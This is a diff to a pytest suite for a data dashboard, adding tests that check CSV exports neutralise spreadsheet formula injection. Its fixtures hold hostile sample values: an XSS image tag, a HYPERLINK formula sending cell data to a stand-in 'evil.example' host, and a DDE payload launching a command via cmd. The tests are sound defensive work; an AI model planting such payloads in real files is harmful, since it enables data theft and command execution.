@@ -260,6 +260,11 @@ HOSTILE_QUOTE = "江西<img src=x onerror=alert(3)>新增示范企业120家"
 @pytest.fixture
 def hostile_app(data_copy, tmp_path):
     """The dashboard over data whose labels, note and quote are markup."""
+    return app_with_hostile_fact(data_copy, tmp_path, HOSTILE_LABEL, HOSTILE_NOTE, HOSTILE_NOTE)
+
+
+def app_with_hostile_fact(data_copy, tmp_path, label, note_zh, note_en):
+    """The dashboard with one more fact (jiangxi, 2020) of these label and notes, quoting HOSTILE_QUOTE."""
     import csv
 
     from app import create_app
@@ -275,8 +280,8 @@ def hostile_app(data_copy, tmp_path):
         dataset="digitalization",
         region_id="jiangxi",
         indicator_id="hostile_demo",
-        indicator_zh=HOSTILE_LABEL,
-        indicator_en=HOSTILE_LABEL,
+        indicator_zh=label,
+        indicator_en=label,
         period="2020",
         value="120",
         unit="count",
@@ -284,8 +289,8 @@ def hostile_app(data_copy, tmp_path):
         derived="false",
         source_file="hostile.txt",
         source_quote=HOSTILE_QUOTE,
-        note_zh=HOSTILE_NOTE,
-        note_en=HOSTILE_NOTE,
+        note_zh=note_zh,
+        note_en=note_en,
     )
     with open(data_dir / "facts" / "hostile.csv", "w", encoding="utf-8", newline="") as handle:
         writer = csv.DictWriter(handle, fieldnames=list(template), lineterminator="\n")
@@ -359,6 +364,80 @@ def test_markup_in_the_data_reaches_the_table_and_provenance_as_plain_strings(ho
 def test_csv_download_keeps_the_data_as_typed(hostile_app):
     body = hostile_app.server.test_client().get("/api/facts.csv?region=jiangxi").get_data(as_text=True)
     assert HOSTILE_QUOTE in body
+
+
+# ---------------------------------------------------------------- formulas in CSV
+
+EXPORT_VALUE_COLUMN = 7  # fact_id, dataset, region_id, indicator_id, indicator_zh, indicator_en, period, value
+FORMULA_LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"示例指标")'
+FORMULA_NOTES = ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3")
+
+
+@pytest.fixture
+def formula_app(data_copy, tmp_path):
+    """The dashboard over a fact whose label and notes a spreadsheet would run as formulas."""
+    return app_with_hostile_fact(data_copy, tmp_path, FORMULA_LABEL, *FORMULA_NOTES)
+
+
+def assert_neutralised(csv_text: str) -> None:
+    """The hostile fact's text cells start with a quote; its value, and every number, is still a number."""
+    import csv as csv_module
+    import io
+
+    rows = list(csv_module.DictReader(io.StringIO(csv_text.lstrip("\ufeff"))))
+    (row,) = [r for r in rows if r["fact_id"] == "hostile_demo_2020"]
+    assert row["indicator_zh"] == "'" + FORMULA_LABEL and row["indicator_en"] == "'" + FORMULA_LABEL
+    assert (row["note_zh"], row["note_en"]) == tuple("'" + note for note in FORMULA_NOTES)
+    assert row["value"] == "120" and row["source_quote"] == HOSTILE_QUOTE
+    for r in rows:
+        for column, cell in r.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or column == "value", (column, cell)
+
+
+def test_csv_download_route_neutralises_formulas(formula_app):
+    response = formula_app.server.test_client().get("/api/facts.csv?region=jiangxi")
+    assert response.status_code == 200
+    assert_neutralised(response.get_data(as_text=True))
+
+
+def test_the_table_download_neutralises_formulas(formula_app):
+    """"Download table (CSV)": the download callback's CSV of the table's rows."""
+    key, spec = next((k, s) for k, s in server_callbacks(formula_app) if "facts-download.data" in k)
+    values = {"facts-download-button.n_clicks": 1, "region-filter.value": ["jiangxi"], "lang-toggle.value": "en", "facts-table.sort_by": []}
+    response = formula_app.server.test_client().post(UPDATE, json=request_body(key, spec, values, ["facts-download-button.n_clicks"]))
+    assert response.status_code == 200, response.get_data(as_text=True)[:300]
+    download = response.get_json()["response"]["facts-download"]["data"]
+    assert_neutralised(download["content"])
+
+
+def test_the_csv_in_the_export_zip_neutralises_formulas(formula_app):
+    from tests.unit.test_export import FakeRenderer
+
+    from components.services.exports import export_bundle
+
+    with formula_app.server.test_request_context("/"):
+        _, files = export_bundle(["jiangxi"], "zh", None, FakeRenderer())
+    (name,) = [n for n in files if n.endswith(".csv")]
+    assert_neutralised(files[name].decode("utf-8"))
+
+
+def test_negative_numbers_stay_numbers_and_only_text_is_quoted(dataset):
+    import pandas as pd
+
+    from components.services.downloads import facts_csv, neutralise_text
+
+    facts = dataset.facts.head(2).copy()
+    facts["value"] = [-3.5, 2.0]
+    facts["note_en"] = facts["note_en"].astype("string")
+    facts.loc[facts.index[1], "note_en"] = "=1+1"
+    rows = facts_csv(facts).splitlines()
+    assert rows[1].split(",")[EXPORT_VALUE_COLUMN] == "-3.5" and rows[2].endswith(",'=1+1")
+
+    assert neutralise_text(pd.Series(["=1", "a", "-x", None, "@b", "\tz", "\rq", "+1"])).tolist() == [
+        "'=1", "a", "'-x", pd.NA, "'@b", "'\tz", "'\rq", "'+1",
+    ]
+    numbers = pd.Series([-3.5, 2.0])
+    assert neutralise_text(numbers) is numbers
 
 
 def test_nothing_renders_raw_html():
